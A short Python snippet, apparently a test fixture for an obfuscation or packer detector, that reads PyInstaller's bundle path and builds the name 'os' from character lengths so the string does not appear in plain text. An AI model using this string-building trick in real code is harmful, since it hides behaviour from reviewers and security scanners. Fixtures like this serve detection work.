# must: packer, char-building
import sys, os
base = getattr(sys, "_MEIPASS", os.path.abspath("."))
name = "".join(chr(len(x)) for x in ["a" * 111, "b" * 115])
